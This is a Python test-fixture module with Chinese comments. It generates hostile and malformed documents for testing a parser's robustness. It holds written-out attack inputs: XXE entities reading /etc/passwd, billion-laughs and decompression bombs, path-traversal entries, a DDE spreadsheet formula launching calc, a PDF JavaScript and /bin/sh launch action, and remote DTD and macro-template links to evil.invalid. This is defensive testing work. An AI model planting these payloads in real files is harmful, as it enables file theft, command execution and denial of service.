"""敌意的、坏了的文件，全由代码造出来：名字、怎样写到盘上、读出来该有什么、不该有什么。"""

from __future__ import annotations

import io
import os
import random
import socket
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from itertools import count
from pathlib import Path

from evals.case import CORPUS

FORMATS = CORPUS / "formats"
SECRET = "这一行只在别的文件里"  # 外部实体、符号链接读得到它，就是读出了界
_MB = 1 << 20
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_RULE = "第一条 市民政局负责老年人助餐。\n第二条 每餐补贴3元。\n"
Make = Callable[[Path], None]
Data = Callable[[], bytes]  # 用到才造：有的要压几百兆


@dataclass(frozen=True)
class Broken:
    """一份。``holds`` 不空的必须读得进，而且有这几个字；``lacks`` 读得进也不许有。"""

    group: str
    name: str
    make: Make
    holds: str = ""
    lacks: str = SECRET


def broken() -> Iterator[Broken]:
    for group in (_texts, _pages, _words, _sheets, _layouts, _papers, _archives, _pictures, _others, _cut, _places):
        yield from group()


# —— 纯文本 ——


def _texts() -> Iterator[Broken]:
    def text(name: str, data: Data, holds: str = "") -> Broken:
        return Broken("文本", name, _holding(data), holds)

    yield text("空的.txt", lambda: b"")
    yield text("只有空白.txt", lambda: b" \n\t\n " * 1000)
    yield text("全是零.txt", lambda: b"\0" * 5000)
    yield text("夹着零.txt", lambda: "\0".join(_RULE).encode())
    yield text("国标码.txt", lambda: (_RULE * 5).encode("gb18030"), "每餐补贴3元")
    yield text(
        "大五码.txt",
        lambda: ("第一條 市政府負責老人共餐，每餐補助三元。\n本要點自公布日施行。\n" * 8).encode("big5"),
        "負責",
    )
    yield text("无标记UTF-16小端.txt", lambda: (_RULE * 5).encode("utf-16-le"), "每餐补贴3元")
    yield text("无标记UTF-16大端.txt", lambda: (_RULE * 5).encode("utf-16-be"), "每餐补贴3元")
    yield text("UTF-32.txt", lambda: (_RULE * 5).encode("utf-32"), "每餐补贴3元")
    yield text("两种编码拼起来.txt", lambda: (_RULE * 50).encode() + "市财政局".encode("gb18030"), "每餐补贴3元")
    yield text("半个字.txt", lambda: (_RULE * 50).encode()[:-2], "每餐补贴3元")
    yield text(
        "落单的代理项.txt", lambda: _RULE.encode() + b"\xed\xa0\x80\xed\xb0\x80" + (_RULE * 20).encode(), "每餐补贴3元"
    )
    yield text("从右往左.txt", lambda: f"\u202e{_RULE}\u202c\u2066{_RULE}\u2069".encode(), "每餐补贴3元")
    yield text("一行五十万字.txt", lambda: ("补" * 500_000).encode())
    yield text("一行一百万字.txt", lambda: ("补" * 1_000_000).encode())
    yield text(
        "一行五十万字的条文.txt", lambda: ("第一条 每人每月300元，由市民政局负责。" * 23_000).replace("\n", "").encode()
    )
    yield text("一百万个空行.txt", lambda: b"\n" * _MB + _RULE.encode())
    yield text(
        "一万行的表.txt",
        lambda: "".join(f"| 任务{n} | 2025年底 | 市民政局 |\n" for n in range(10_000)).encode(),
        "任务9999",
    )
    yield text("一万列的表.txt", lambda: ("|甲" * 10_000 + "|\n").encode() * 3)
    yield text("一百万个竖线.txt", lambda: b"|" * _MB)
    yield text("一百万个制表符.txt", lambda: b"a\t" * (_MB // 2))
    yield text("编号的风暴.txt", lambda: ("一、" * 100_000).encode())
    yield text("条号的风暴.txt", lambda: "".join(f"第{n}条 甲。\n" for n in range(1, 30_000)).encode(), "第29999条")
    yield text("十万层括号.txt", lambda: ("（" * 100_000 + "一" + "）" * 100_000).encode())
    yield text("十万层书名号.txt", lambda: ("《" * 100_000).encode())
    yield text("一百万位的数.txt", lambda: ("第一条 补贴" + "9" * 1_000_000 + "元。").encode())
    yield text("一百万个零的日期.txt", lambda: ("2025年" + "0" * 1_000_000 + "月1日").encode())
    yield text("叠起来的附加符号.txt", lambda: ("第一条 甲" + "\u0301" * 200_000 + "乙。\n").encode(), "第一条")
    yield text("零宽字符.txt", lambda: "\u200b".join(_RULE * 500).encode())
    yield text("私用区.txt", lambda: ("\ue000\uf8ff" * 5000).encode())
    yield text("十六进制.txt", lambda: random.Random(1).randbytes(200_000))
    yield text("六十兆.txt", lambda: ("第一条 每人每月300元。\n" * 40).encode() * (60 * _MB // 1320))
    yield text(
        "各种换行.txt",
        lambda: "\r".join(_RULE.splitlines()).encode() + "\u2028第三条 甲。\x85第四条 乙。".encode(),
        "第四条",
    )
    yield text("单位的风暴.txt", lambda: ("市民政局、" * 90_000 + "负责。").encode())
    yield text("责任单位的风暴.txt", lambda: ("责任单位：" * 90_000).encode())
    yield text("万层引文.txt", lambda: ("> " * 10_000 + _RULE).encode())
    yield text("井号.md", lambda: ("#" * 1_000_000 + " 甲").encode())
    yield text("星号.md", lambda: ("*" * 1_000_000).encode())
    yield text("不收尾的注释.md", lambda: (_RULE + "<!--" * 100_000).encode(), "每餐补贴3元")
    yield text("反引号.md", lambda: (_RULE + "`" * 400_000).encode(), "每餐补贴3元")


# —— 网页 ——


def _pages() -> Iterator[Broken]:
    def page(name: str, body: Callable[[], str | bytes], holds: str = "") -> Broken:
        return Broken("网页", name, _holding(lambda: _encoded(body())), holds)

    rules = _RULE.replace("\n", "<br>")
    entity = '<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    yield page("十万层.html", lambda: "<div>" * 100_000 + rules + "</div>" * 100_000)
    yield page("十万层不收尾.html", lambda: "<b><i>" * 50_000 + rules)
    yield page(
        "跨十亿列.html",
        lambda: f"<table><tr><td colspan=1000000000>{rules}</td></tr><tr><td>a</td><td>b</td></tr></table>",
    )
    yield page(
        "跨十亿行.html",
        lambda: f"<table><tr><td rowspan=1000000000>{rules}</td><td>b</td></tr>{'<tr><td>c</td></tr>' * 500}</table>",
    )
    yield page(
        "一万行.html",
        lambda: f"<table>{'<tr><td>任务</td><td>2025年底</td><td>市民政局</td></tr>' * 10_000}</table>",
        "任务",
    )
    yield page("一万格.html", lambda: f"<table><tr>{'<td>甲</td>' * 10_000}</tr></table>{rules}")
    yield page("套五百层的表.html", lambda: "<table><tr><td>" * 500 + rules + "</td></tr></table>" * 500)
    yield page("外部实体.html", lambda: f"{entity}<p>&x;</p><p>{rules}</p>", "每餐补贴3元")
    yield page("只有脚本.html", lambda: "<script>alert(1)</script>" * 1000)
    yield page("脚本和正文.html", lambda: f"<script>x='{'a' * 500_000}'</script><p>{rules}</p>", "每餐补贴3元")
    yield page("十万个属性.html", lambda: f"<p {' '.join(f'a{n}=1' for n in range(100_000))}>{rules}</p>")
    yield page("一兆的属性.html", lambda: f'<p title="{"甲" * 400_000}">{rules}</p>', "每餐补贴3元")
    yield page("十万个实体.html", lambda: f"<p>{'&#x4e00;&amp;' * 100_000}</p>")
    yield page("代理项实体.html", lambda: f"<p>&#xD800;&#xDFFF;&#0;&#x110000;</p><p>{rules}</p>", "每餐补贴3元")
    yield page("自称错的编码.html", lambda: f'<meta charset="gb2312"><p>{rules * 20}</p>', "每餐补贴3元")
    yield page("自称没有的编码.html", lambda: f'<meta charset="x-none"><p>{rules * 20}</p>', "每餐补贴3元")
    yield page("标签里有零.html", lambda: f"<p\0>{rules}<\0/p><p>{rules}</p>")
    yield page(
        "内嵌的大图.html", lambda: f'<img src="data:image/png;base64,{"A" * 8_000_000}"><p>{rules}</p>', "每餐补贴3元"
    )
    yield page("标题的风暴.html", lambda: f"<title>{'甲_' * 200_000}</title><p>{rules}</p>", "每餐补贴3元")
    yield page(
        "框架和跳转.html",
        lambda: (
            f'<meta http-equiv=refresh content="0;url=http://evil.invalid/"><iframe src="file:///etc/passwd"></iframe><p>{rules}</p>'
        ),
        "每餐补贴3元",
    )
    yield page("六十兆.html", lambda: b"<p>" + ("第一条 每人每月300元。" * 30).encode() * (60 * _MB // 990))


# —— DOCX ——


def docx(body: str, more: Mapping[str, str | bytes] = {}, head: str = "") -> bytes:
    """最小的 DOCX；``head`` 写在 document.xml 的根之前。"""
    parts: dict[str, str | bytes] = {
        "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
        "_rels/.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>',
        "word/document.xml": f"{head}<w:document {_W}><w:body>{body}</w:body></w:document>",
    }
    return packed({**parts, **more})


def _p(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def _relations(*rows: str) -> str:
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    inner = "".join(
        f'<Relationship Id="r{n}" Type="{kind}/{name}" Target="{target}"{mode}/>'
        for n, (name, target, mode) in enumerate(row.split("|") for row in rows)
    )
    return (
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{inner}</Relationships>'
    )


def _words() -> Iterator[Broken]:
    def word(name: str, data: Data, holds: str = "") -> Broken:
        return Broken("DOCX", name, _holding(data), holds)

    rules = "".join(map(_p, _RULE.splitlines()))
    xxe = f'<!DOCTYPE d [<!ENTITY x SYSTEM "file://{_secret()}">]>'
    table = "<w:tbl><w:tr><w:tc>{}</w:tc><w:tc><w:p/></w:tc></w:tr></w:tbl>"
    note = '<w:p><w:r><w:footnoteReference w:id="2"/></w:r></w:p>'
    notes = f'<w:footnotes {_W}><w:footnote w:id="2"><w:p><w:r><w:t>注</w:t><w:footnoteReference w:id="2"/></w:r></w:p></w:footnote></w:footnotes>'
    loop = f'<w:styles {_W}>{"".join(f"""<w:style w:type="paragraph" w:styleId="s{n}"><w:basedOn w:val="s{(n + 1) % 9}"/></w:style>""" for n in range(9))}</w:styles>'
    yield word("正常的.docx", lambda: docx(rules), "每餐补贴3元")
    yield word("外部实体.docx", lambda: docx(_p("&x;") + rules, head=xxe))
    yield word(
        "远处的实体.docx", lambda: docx(_p("&x;") + rules, head='<!DOCTYPE d SYSTEM "http://evil.invalid/x.dtd">')
    )
    yield word("十亿个笑.docx", lambda: docx(_p("&l9;") + rules, head=_laughs()))
    yield word(
        "平方级的实体.docx", lambda: docx(_p("&a;" * 20_000), head=f'<!DOCTYPE d [<!ENTITY a "{"哈" * 20_000}">]>')
    )
    yield word("炸弹.docx", lambda: packed_large({"word/document.xml": b"<a/>"}, "word/media/a.bin", 400))
    yield word("正文是炸弹.docx", lambda: packed_large({}, "word/document.xml", 400))
    yield word("正文是百兆空白.docx", lambda: docx(" " * (100 * _MB) + rules))
    yield word("套一万层的表.docx", lambda: docx(_nested(table, 10_000, rules)))
    yield word("套一百层的表.docx", lambda: docx(_nested(table, 100, rules)))
    yield word(
        "套一万层的文本框.docx",
        lambda: docx(_nested("<w:p><w:r><w:txbxContent>{}</w:txbxContent></w:r></w:p>", 10_000, rules)),
    )
    yield word(
        "跨二十亿列.docx",
        lambda: docx(
            f'<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="2000000000"/></w:tcPr>{rules}</w:tc></w:tr></w:tbl>' + rules
        ),
    )
    yield word("一万段.docx", lambda: docx("".join(_p(f"第{n}条 甲。") for n in range(1, 10_001))), "第10000条")
    yield word(
        "一万行的表.docx",
        lambda: docx(
            "<w:tbl>"
            + f"<w:tr>{'<w:tc>' + _p('市民政局') + '</w:tc>'}<w:tc>{_p('2025年底')}</w:tc></w:tr>" * 10_000
            + "</w:tbl>"
        ),
        "市民政局",
    )
    yield word(
        "脚注套自己.docx",
        lambda: docx(
            note + rules,
            {"word/footnotes.xml": notes, "word/_rels/document.xml.rels": _relations("footnotes|footnotes.xml|")},
        ),
    )
    yield word(
        "样式绕圈.docx",
        lambda: docx(
            '<w:p><w:pPr><w:pStyle w:val="s0"/></w:pPr><w:r><w:t>甲</w:t></w:r></w:p>' + rules,
            {"word/styles.xml": loop, "word/_rels/document.xml.rels": _relations("styles|styles.xml|")},
        ),
    )
    yield word(
        "远处的模板.docx",
        lambda: docx(
            rules,
            {
                "word/_rels/document.xml.rels": _relations(
                    'attachedTemplate|http://evil.invalid/a.dotm| TargetMode="External"'
                )
            },
        ),
        "每餐补贴3元",
    )
    yield word(
        "关系指到外面.docx",
        lambda: docx(rules, {"word/_rels/document.xml.rels": _relations("image|../../../../etc/passwd|")}),
    )
    yield word("没有正文.docx", lambda: packed({"a.txt": "x"}))
    yield word("正文不是XML.docx", lambda: docx("</w:body>"))
    yield word("正文空着.docx", lambda: packed({"word/document.xml": b""}))
    yield word("目录谎报大小.docx", lambda: _lying(docx(rules * 50)))
    yield word("带宏的.docm", lambda: docx(rules, {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 100}), "每餐补贴3元")
    yield word("名字出界.docx", lambda: docx(rules, {"../../../../tmp/zhengwen-escaped.txt": "x"}), "每餐补贴3元")
    yield word("一万件.docx", lambda: docx(rules, {f"word/media/{n}.png": b"x" for n in range(10_000)}))
    yield word("加密的.docx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 5000)
    yield word("四字节的怪字.docx", lambda: docx(_p("第一条 \U0002a6a5\U0010fffd。") + rules), "每餐补贴3元")
    yield word(
        "编号到一万级.docx",
        lambda: docx(
            rules,
            {
                "word/numbering.xml": f"<w:numbering {_W}>{'<w:abstractNum/>' * 10_000}</w:numbering>",
                "word/_rels/document.xml.rels": _relations("numbering|numbering.xml|"),
            },
        ),
    )
    yield word("大图.docx", lambda: docx(rules, {"word/media/a.png": png(60_000, 60_000)}), "每餐补贴3元")


# —— XLSX ——


def xlsx(sheet: str, more: Mapping[str, str | bytes] = {}, head: str = "") -> bytes:
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    package = "http://schemas.openxmlformats.org/package/2006"
    form = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    parts: dict[str, str | bytes] = {
        "[Content_Types].xml": f'<Types xmlns="{package}/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="{form}.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="{form}.worksheet+xml"/><Override PartName="/xl/sharedStrings.xml" ContentType="{form}.sharedStrings+xml"/></Types>',
        "_rels/.rels": f'<Relationships xmlns="{package}/relationships"><Relationship Id="r1" Type="{kind}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{package}/relationships"><Relationship Id="r1" Type="{kind}/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="r2" Type="{kind}/sharedStrings" Target="sharedStrings.xml"/></Relationships>',
        "xl/workbook.xml": f'<workbook xmlns="{main}" xmlns:r="{kind}"><sheets><sheet name="表" sheetId="1" r:id="r1"/></sheets></workbook>',
        "xl/sharedStrings.xml": f'<sst xmlns="{main}"/>',
        "xl/worksheets/sheet1.xml": f'{head}<worksheet xmlns="{main}">{sheet}</worksheet>',
    }
    return packed({**parts, **more})


def _row(number: int, *cells: str) -> str:
    inner = "".join(f'<c r="{chr(65 + i)}{number}" t="inlineStr"><is><t>{c}</t></is></c>' for i, c in enumerate(cells))
    return f'<row r="{number}">{inner}</row>'


def _sheets() -> Iterator[Broken]:
    def sheet(name: str, data: Data, holds: str = "") -> Broken:
        return Broken("XLSX", name, _holding(data), holds)

    two = _row(1, "项目", "标准") + _row(2, "助餐补贴", "3元")
    rows = f"<sheetData>{two}</sheetData>"
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    far = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>末</t></is></c></row>'
    yield sheet("正常的.xlsx", lambda: xlsx(rows), "助餐补贴")
    yield sheet("十亿个笑.xlsx", lambda: xlsx(f"<sheetData>{two}{_row(3, '&l9;')}</sheetData>", head=_laughs()))
    yield sheet(
        "外部实体.xlsx",
        lambda: xlsx(
            f"<sheetData>{two}{_row(3, '&x;')}</sheetData>",
            head=f'<!DOCTYPE d [<!ENTITY x SYSTEM "file://{_secret()}">]>',
        ),
    )
    yield sheet(
        "共用字符串的笑.xlsx",
        lambda: xlsx(
            '<sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row></sheetData>',
            {"xl/sharedStrings.xml": f'{_laughs()}<sst xmlns="{main}"><si><t>&l9;</t></si></sst>'},
        ),
    )
    yield sheet(
        "共用字符串不够.xlsx",
        lambda: xlsx(
            '<sheetData><row r="1"><c r="A1" t="s"><v>99</v></c></row></sheetData>',
            {"xl/sharedStrings.xml": f'<sst xmlns="{main}"/>'},
        ),
    )
    yield sheet("最末一格.xlsx", lambda: xlsx(f'<dimension ref="A1:XFD1048576"/><sheetData>{two}{far}</sheetData>'))
    yield sheet("谎报的范围.xlsx", lambda: xlsx(f'<dimension ref="A1:XFD1048576"/>{rows}'), "助餐补贴")
    yield sheet(
        "合并整张表.xlsx", lambda: xlsx(f'{rows}<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>')
    )
    yield sheet(
        "一万处合并.xlsx",
        lambda: xlsx(
            f'{rows}<mergeCells>{"".join(f"""<mergeCell ref="A{n}:C{n + 1}"/>""" for n in range(3, 20_003, 2))}</mergeCells>'
        ),
    )
    yield sheet(
        "合并重叠.xlsx",
        lambda: xlsx(
            f'{rows}<mergeCells><mergeCell ref="A1:B2"/><mergeCell ref="B2:A1"/><mergeCell ref="A2:B3"/></mergeCells>'
        ),
    )
    yield sheet("合并读不懂.xlsx", lambda: xlsx(f'{rows}<mergeCells><mergeCell ref="ZZZZ1:?"/></mergeCells>'))
    yield sheet(
        "一万行.xlsx",
        lambda: xlsx(
            f"<sheetData>{two}{''.join(_row(n, f'任务{n}', '2025年底', '市民政局') for n in range(3, 10_003))}</sheetData>"
        ),
        "任务10002",
    )
    yield sheet(
        "十万行.xlsx", lambda: xlsx(f"<sheetData>{''.join(_row(n, '甲', '乙') for n in range(1, 100_001))}</sheetData>")
    )
    yield sheet("行号倒着.xlsx", lambda: xlsx(f"<sheetData>{_row(9, '甲')}{_row(2, '乙')}{_row(9, '丙')}</sheetData>"))
    yield sheet("行号是负的.xlsx", lambda: xlsx('<sheetData><row r="-5"><c r="A-5"><v>1</v></c></row></sheetData>'))
    yield sheet(
        "数太大.xlsx",
        lambda: xlsx(
            f'<sheetData>{two}<row r="3"><c r="A3"><v>1e400</v></c><c r="B3"><v>nan</v></c><c r="C3" t="d"><v>x</v></c></row></sheetData>'
        ),
    )
    yield sheet(
        "公式套公式.xlsx",
        lambda: xlsx(f'<sheetData>{two}<row r="3"><c r="A3"><f>{"SUM(" * 3000}1{")" * 3000}</f></c></row></sheetData>'),
    )
    yield sheet(
        "执行命令的公式.xlsx",
        lambda: xlsx(f'<sheetData>{two}<row r="3"><c r="A3"><f>cmd|\'/c calc\'!A1</f><v>0</v></c></row></sheetData>'),
        "助餐补贴",
    )
    yield sheet("炸弹.xlsx", lambda: packed_large({"xl/workbook.xml": b"<a/>"}, "xl/a.bin", 400))
    yield sheet("没有表.xlsx", lambda: packed({"xl/workbook.xml": f'<workbook xmlns="{main}"/>'}))
    yield sheet("一格一百万字.xlsx", lambda: xlsx(f"<sheetData>{_row(1, '甲' * 1_000_000, '乙')}</sheetData>"))
    yield sheet(
        "两千张表.xlsx",
        lambda: xlsx(
            rows,
            {
                "xl/workbook.xml": f'<workbook xmlns="{main}" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>{"".join(f"""<sheet name="表{n}" sheetId="{n}" r:id="r1"/>""" for n in range(1, 2001))}</sheets></workbook>'
            },
        ),
    )


# —— OFD ——


def ofd(page: str, more: Mapping[str, str | bytes] = {}, head: str = "") -> bytes:
    space = 'xmlns="http://www.ofdspec.org/2016"'
    parts: dict[str, str | bytes] = {
        "OFD.xml": f"<OFD {space}><DocBody><DocRoot>Doc/Document.xml</DocRoot></DocBody></OFD>",
        "Doc/Document.xml": f'<Document {space}><CommonData><PageArea><PhysicalBox>0 0 210 297</PhysicalBox></PageArea></CommonData><Pages><Page ID="1" BaseLoc="P.xml"/></Pages></Document>',
        "Doc/P.xml": f"{head}<Page {space}><Content><Layer>{page}</Layer></Content></Page>",
    }
    return packed({**parts, **more})


def _said(text: str, x: object = 20, y: object = 30, deltas: str = "5") -> str:
    return f'<TextObject Boundary="{x} {y} 150 8" Size="5"><TextCode X="0" Y="5" DeltaX="g {len(text)} {deltas}">{text}</TextCode></TextObject>'


def _layouts() -> Iterator[Broken]:
    def layout(name: str, data: Data, holds: str = "") -> Broken:
        return Broken("OFD", name, _holding(data), holds)

    line = _said("第一条 市民政局负责老年人助餐，每餐补贴3元。")
    space = 'xmlns="http://www.ofdspec.org/2016"'
    yield layout("正常的.ofd", lambda: ofd(line), "第一条 市民政局")
    yield layout("十亿个笑.ofd", lambda: ofd(line + _said("&l9;"), head=_laughs()))
    yield layout(
        "外部实体.ofd", lambda: ofd(line + _said("&x;"), head=f'<!DOCTYPE d [<!ENTITY x SYSTEM "file://{_secret()}">]>')
    )
    yield layout(
        "指着自己.ofd",
        lambda: ofd(line, {"OFD.xml": f"<OFD {space}><DocBody><DocRoot>OFD.xml</DocRoot></DocBody></OFD>"}),
    )
    yield layout(
        "指到外面.ofd",
        lambda: ofd(
            line, {"OFD.xml": f"<OFD {space}><DocBody><DocRoot>../../../../etc/passwd</DocRoot></DocBody></OFD>"}
        ),
    )
    yield layout(
        "页没有.ofd",
        lambda: ofd(
            line, {"Doc/Document.xml": f'<Document {space}><Pages><Page ID="1" BaseLoc="无.xml"/></Pages></Document>'}
        ),
    )
    yield layout(
        "三千页.ofd",
        lambda: ofd(
            line,
            {
                "Doc/Document.xml": f"<Document {space}><Pages>"
                + '<Page BaseLoc="P.xml"/>' * 3000
                + "</Pages></Document>"
            },
        ),
    )
    yield layout(
        "坐标无穷大.ofd", lambda: ofd(_said("甲", "1e308", "1e308", "1e308") + _said("乙", "nan", "inf") + line)
    )
    yield layout("坐标不是数.ofd", lambda: ofd(_said("甲", "a", "b", "c") + line))
    yield layout(
        "间距重复十亿次.ofd",
        lambda: ofd(
            '<TextObject Boundary="0 0 9 9" Size="5"><TextCode X="0" Y="5" DeltaX="g 1000000000 5">甲乙</TextCode></TextObject>'
            + line
        ),
    )
    yield layout("一行一百万字.ofd", lambda: ofd(_said("甲" * 1_000_000)))
    yield layout(
        "十万个字各一件.ofd", lambda: ofd("".join(_said("甲", n % 200, n // 200 % 290) for n in range(100_000)))
    )
    yield layout("套一万层.ofd", lambda: ofd("<PageBlock>" * 10_000 + line + "</PageBlock>" * 10_000))
    yield layout(
        "十万条线.ofd",
        lambda: ofd(
            line
            + "".join(
                f'<PathObject Boundary="0 {n % 297} 210 1" LineWidth="1"><AbbreviatedData>M 0 0 L 210 0</AbbreviatedData></PathObject>'
                for n in range(100_000)
            )
        ),
    )
    yield layout(
        "路径读不懂.ofd",
        lambda: ofd(
            line + '<PathObject Boundary="0 0 9 9"><AbbreviatedData>M M L 9 B Z 1e999</AbbreviatedData></PathObject>'
        ),
    )
    yield layout("零页.ofd", lambda: ofd(line, {"Doc/Document.xml": f"<Document {space}><Pages/></Document>"}))
    yield layout("炸弹.ofd", lambda: packed_large({"OFD.xml": b"<a/>"}, "a.bin", 400))
    yield layout("正文是炸弹.ofd", lambda: packed_large({}, "OFD.xml", 200))


# —— PDF ——


def pdf(*objects: bytes, trailer: bytes = b"<</Root 1 0 R/Size 99>>") -> bytes:
    """各个对象从 1 号起；没有交叉引用表，读的人自己找。"""
    body = b"".join(b"%d 0 obj%s endobj\n" % (n, o) for n, o in enumerate(objects, 1))
    return b"%PDF-1.7\n" + body + b"trailer" + trailer + b"\n%%EOF"


def _stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<</Length %d%s>>stream\n%s\nendstream" % (len(data), entries, data)


def _paper(content: bytes, *more: bytes, page: bytes = b"", catalog: bytes = b"", entries: bytes = b"") -> bytes:
    """一页；1 目录 2 页树 3 页 4 内容 5 字体，``more`` 从 6 起。"""
    return pdf(
        b"<</Type/Catalog/Pages 2 0 R%s>>" % catalog,
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>/XObject<</X 6 0 R>>>>%s>>"
        % page,
        _stream(content, entries),
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        *more,
    )


def _papers() -> Iterator[Broken]:
    def paper(name: str, data: Data, holds: str = "") -> Broken:
        return Broken("PDF", name, _holding(data), holds)

    said = b"BT /F1 12 Tf 50 700 Td (Article 1 subsidy 300 yuan per month for each person) Tj ET "
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 600 900]"
    yield paper("正常的.pdf", lambda: _paper(said), "subsidy")
    yield paper("零页.pdf", lambda: pdf(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[]/Count 0>>"))
    yield paper("没有目录.pdf", lambda: pdf(b"<</A/B>>", trailer=b"<</Size 2>>"))
    yield paper(
        "页树绕圈.pdf",
        lambda: pdf(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2/Parent 2 0 R>>"),
    )
    yield paper(
        "页数谎报.pdf",
        lambda: pdf(
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[3 0 R]/Count 2000000000>>",
            b"<</Type/Page/Parent 2 0 R>>",
        ),
    )
    yield paper(
        "交叉引用绕圈.pdf",
        lambda: (
            _paper(said)[:-6]
            + b"\nxref\n0 1\n0000000000 65535 f \ntrailer<</Root 1 0 R/Size 6/Prev 9>>\nstartxref\n9\n%%EOF"
        ),
    )
    yield paper(
        "长度指着自己.pdf",
        lambda: pdf(
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            b"<</Type/Page/Parent 2 0 R/Contents 4 0 R>>",
            b"<</Length 4 0 R>>stream\nBT ET\nendstream",
        ),
    )
    yield paper(
        "图形套自己.pdf",
        lambda: _paper(said + b"/X Do ", _stream(b"/X Do /X Do", form + b"/Resources<</XObject<</X 6 0 R>>>>")),
    )
    yield paper(
        "图形两两相套.pdf",
        lambda: _paper(
            said + b"/X Do ",
            *(_stream(b"/X Do /X Do", form + b"/Resources<</XObject<</X %d 0 R>>>>" % (7 + n)) for n in range(40)),
        ),
    )
    yield paper(
        "脚本和启动.pdf",
        lambda: _paper(
            said,
            catalog=b"/OpenAction<</S/JavaScript/JS(app.launchURL\\('http://evil.invalid'\\))>>/AA<</WC<</S/Launch/F(/bin/sh)>>>>",
        ),
        "subsidy",
    )
    yield paper("远处的文件.pdf", lambda: _paper(said, page=b"/AA<</O<</S/GoToR/F(file:///etc/passwd)>>>>"), "subsidy")
    yield paper(
        "内容是炸弹.pdf", lambda: _paper(zlib.compress(b" " * (200 * _MB) + said), entries=b"/Filter/FlateDecode")
    )
    yield paper(
        "一层层压的炸弹.pdf",
        lambda: _paper(zlib.compress(zlib.compress(b" " * (300 * _MB))), entries=b"/Filter[/FlateDecode/FlateDecode]"),
    )
    yield paper(
        "图是炸弹.pdf",
        lambda: _paper(
            said + b"q 500 0 0 500 50 50 cm /X Do Q",
            _stream(
                zlib.compress(b"\0" * (60_000 // 8 * 20_000)),
                b"/Type/XObject/Subtype/Image/Width 60000/Height 20000/ColorSpace/DeviceGray/BitsPerComponent 1/Filter/FlateDecode",
            ),
        ),
        "subsidy",
    )
    yield paper(
        "扫描页是炸弹.pdf",
        lambda: _paper(
            b"q 595 0 0 842 0 0 cm /X Do Q",
            _stream(
                zlib.compress(b"\xff" * (40_000 // 8 * 40_000)),
                b"/Type/XObject/Subtype/Image/Width 40000/Height 40000/ColorSpace/DeviceGray/BitsPerComponent 1/Filter/FlateDecode",
            ),
        ),
    )
    yield paper("没有字体.pdf", lambda: _paper(said.replace(b"/F1", b"/F9")))
    yield paper(
        "字体指着自己.pdf",
        lambda: pdf(
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>",
            _stream(said),
            b"<</Type/Font/Subtype/Type0/DescendantFonts[5 0 R]/ToUnicode 5 0 R/BaseFont 5 0 R>>",
        ),
    )
    yield paper("页面无穷大.pdf", lambda: _paper(said).replace(b"[0 0 595 842]", b"[-1e30 -1e30 1e30 1e30]"))
    yield paper("页面是零.pdf", lambda: _paper(said).replace(b"[0 0 595 842]", b"[0 0 0 0]"))
    yield paper("字号无穷大.pdf", lambda: _paper(b"BT /F1 1e30 Tf 1e30 1e30 Td (A) Tj ET " + said))
    yield paper("十万个算符.pdf", lambda: _paper(said + b"q Q " * 100_000), "subsidy")
    yield paper(
        "十万条线.pdf",
        lambda: _paper(said + b"".join(b"0 %d m 500 %d l S " % (n % 800, n % 800) for n in range(100_000))),
    )
    yield paper(
        "五万个字.pdf",
        lambda: _paper(b"BT /F1 8 Tf 9 TL 20 820 Td " + b"(A quick word here now) Tj T* " * 2500 + b"ET"),
    )
    yield paper("存状态十万层.pdf", lambda: _paper(b"q " * 100_000 + said))
    yield paper(
        "数组套十万层.pdf",
        lambda: pdf(
            b"<</Type/Catalog/Pages 2 0 R/X" + b"[" * 100_000 + b"]" * 100_000 + b">>",
            b"<</Type/Pages/Kids[]/Count 0>>",
        ),
    )
